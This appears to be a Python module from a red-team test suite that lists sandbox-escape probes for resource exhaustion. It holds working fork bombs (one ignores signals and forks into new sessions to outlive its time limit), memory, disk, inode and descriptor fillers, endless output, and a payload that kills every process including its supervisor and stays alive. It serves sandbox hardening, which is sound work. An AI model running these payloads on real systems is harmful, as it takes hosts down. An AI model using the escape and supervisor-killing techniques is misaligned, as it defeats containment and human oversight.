"""Attempts to exhaust processes, memory, disk, output and descriptors."""

from __future__ import annotations

from aar.redteam.escapes.escape_arena import Escape

EXHAUSTION = (
    Escape(
        "fork-bomb",
        "take every process of the machine",
        "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass\n",
        3,
    ),
    Escape(
        "stubborn-fork-bomb",
        "outlive its time limit by forking in new sessions that ignore signals",
        """
import os, signal
for number in range(1, 32):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True:
    try:
        if os.fork() == 0:
            os.setsid(); os.fork()
    except OSError: pass
""",
        3,
    ),
    Escape("memory-bomb", "take all memory", "keep = []\nwhile True: keep.append(bytearray(1 << 24))\n"),
    Escape(
        "memory-in-files",
        "take all memory through file systems in memory",
        """
import os
for folder in ('/dev/shm', '/tmp'):
    with open(folder + '/fill', 'wb') as file:
        try:
            for _ in range(4096): file.write(b'x' * (1 << 20))
            print('GOT THROUGH: 4 GiB in', folder)
        except OSError: pass
    os.unlink(folder + '/fill')
""",
    ),
    Escape(
        "disk-filler",
        "fill the host's disk through every writable place",
        """
import os
written = 0
for folder in ('/workspace', '/run/aar', '/run', '/var/tmp', '/'):
    for number in range(40):
        try:
            with open(f'{folder}/fill-{number}', 'wb') as file:
                while True:
                    written += file.write(b'x' * (1 << 20)); file.flush()
                    if written > @ROOM@ * 4:
                        raise SystemExit(print('GOT THROUGH', written))
        except OSError: pass
if written > @ROOM@ * 2: print('GOT THROUGH', written)
""",
    ),
    Escape(
        "many-files",
        "take every inode of the host",
        """
import os
os.makedirs('/workspace/many', exist_ok=True)
try:
    for number in range(2_000_000):
        os.close(os.open(f'/workspace/many/{number}', os.O_CREAT | os.O_WRONLY))
    print('GOT THROUGH')
except OSError: pass
""",
        20,
    ),
    Escape(
        "endless-output",
        "fill the host with 3 GB of output",
        "import subprocess\nsubprocess.run(['head', '-c', '3000000000', '/dev/zero'])\n",
    ),
    Escape(
        "descriptors",
        "take every open file of the host",
        """
import os
keep = []
try:
    while True:
        keep.append(os.open('/dev/null', os.O_RDONLY))
        if len(keep) > 100_000: raise SystemExit(print('GOT THROUGH'))
except OSError: pass
""",
    ),
    Escape(
        "kill-everything",
        "kill every process it can see, its supervisor included, and stay alive",
        """
import os, signal
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try: os.kill(-1, signal.SIGKILL)
        except OSError: pass
        open('/workspace/.outlived', 'w').write(str(os.getpid()))
        import time
        time.sleep(600)
import time
time.sleep(600)
""",
        20,
    ),
)
